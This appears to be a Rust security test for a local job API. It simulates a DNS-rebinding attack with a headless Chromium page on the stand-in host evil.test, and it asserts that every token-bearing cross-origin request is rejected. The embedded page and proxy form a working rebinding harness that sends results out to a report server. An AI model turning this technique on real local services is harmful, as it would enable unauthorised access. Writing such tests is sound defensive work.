//! A page in a real Chromium that knows the token, on another host name that leads here (DNS rebinding). Skipped where
//! there is no Chromium, unless the set-up promised one (`SPOOL_TESTS_NEED`).

#![allow(clippy::disallowed_methods, reason = "a test of what a browser does has to start one")]

use crate::desk::{Desk, PATIENCE};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use std::sync::Arc;
use studio::api::ListJobs;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::Command;

const NAMES: [&str; 4] = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];

/// Asks in every way that a page has, then goes to REPORT with what it heard.
const PAGE: &str = r#"<!doctype html><script type="module">
const key = { "x-api-key": "TOKEN" }, json = { "content-type": "application/json" };
const body = JSON.stringify({ script: "Bees dance." }), heard = {};
async function ask(name, url, init) {
  try {
    const answer = await fetch(url, init);
    heard[name] = answer.type === "opaque" ? "opaque" : answer.status;
  } catch { heard[name] = "refused"; }
}
await ask("own", "/v1/jobs", { headers: key });
await ask("own post", "/v1/jobs", { method: "POST", headers: { ...key, ...json }, body });
await ask("across", "http://API/v1/jobs", { headers: key });
await ask("across post", "http://API/v1/jobs", { method: "POST", headers: { ...key, ...json }, body });
await ask("across without asking", "http://API/v1/jobs", { method: "POST", mode: "no-cors", body });
location = "http://REPORT/?" + btoa(JSON.stringify(heard));
</script>"#;

/// A request's head; empty when the browser opened a connection only in case it needed one.
async fn head(stream: &mut TcpStream) -> String {
    let (mut head, mut chunk) = (String::new(), [0; 4_096]);
    while !head.contains("\r\n\r\n") {
        match stream.read(&mut chunk).await {
            Ok(read @ 1..) => head += &String::from_utf8_lossy(&chunk[..read]),
            _ => return String::new(),
        }
    }
    head
}

/// The name's server: `/` is the page; everything else of the name leads to Spool, byte by byte.
async fn rebind(name: TcpListener, page: String, api: String) {
    let length = page.len();
    let page = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{page}"
    );
    let page = Arc::new(page);
    loop {
        let (mut browser, _) = name.accept().await.unwrap();
        let (page, api) = (page.clone(), api.clone());
        tokio::spawn(async move {
            let asked = head(&mut browser).await;
            if asked.starts_with("GET / ") {
                browser.write_all(page.as_bytes()).await?;
                return browser.shutdown().await;
            }
            let mut spool = TcpStream::connect(&api).await?;
            spool.write_all(asked.as_bytes()).await?;
            copy_bidirectional(&mut browser, &mut spool).await.map(|_| ())
        });
    }
}

/// What the page went to tell.
async fn told(report: TcpListener) -> String {
    loop {
        let (mut stream, _) = report.accept().await.unwrap();
        if let Some((_, told)) = head(&mut stream).await.split_once("GET /?") {
            return told.split(' ').next().unwrap_or_default().to_owned();
        }
    }
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_page_that_knows_the_token_gets_nothing_under_any_name() {
    let folders = std::env::var_os("PATH").unwrap_or_default();
    let folders: Vec<_> = std::env::split_paths(&folders).collect();
    let mut there = NAMES.iter().flat_map(|name| folders.iter().map(move |folder| folder.join(name)));
    let Some(chromium) = there.find(|path| path.is_file()) else {
        let promised = std::env::var("SPOOL_TESTS_NEED").is_ok_and(|needed| needed.contains("chromium"));
        assert!(!promised, "the set-up promised a Chromium: npm run setup -- --tests");
        eprintln!("skipped: there is no Chromium on this computer");
        return;
    };
    let desk = Desk::new().await;
    let api = desk.host().to_owned();
    let port = api.rsplit(':').next().unwrap().to_owned();
    // Another address of this computer, the same port: the page's own origin is where the API will be.
    let name = TcpListener::bind(format!("127.0.0.2:{port}")).await.unwrap();
    let report = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let page = PAGE.replace("TOKEN", &desk.token).replace("API", &api);
    let page = page.replace("REPORT", &report.local_addr().unwrap().to_string());
    let name = tokio::spawn(rebind(name, page, api));
    let profile = tempfile::tempdir().unwrap();
    let mut browser = Command::new(chromium)
        .args(["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"])
        .args(["--disable-background-networking", "--host-resolver-rules=MAP evil.test 127.0.0.2"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("http://evil.test:{port}/"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let heard = tokio::time::timeout(PATIENCE, told(report)).await.expect("a report");
    browser.kill().await.unwrap();
    name.abort();
    let heard: Value = serde_json::from_slice(&STANDARD.decode(heard).unwrap()).unwrap();
    assert_eq!(
        heard,
        json!({
            "own": 421, "own post": 421, "across": "refused", "across post": "refused",
            "across without asking": "opaque"
        })
    );
    assert_eq!(desk.studio.list_jobs(ListJobs::default()).await.unwrap().jobs, []);
    assert_eq!(desk.get("/v1/jobs").await.status, 200, "a program is let in");
}
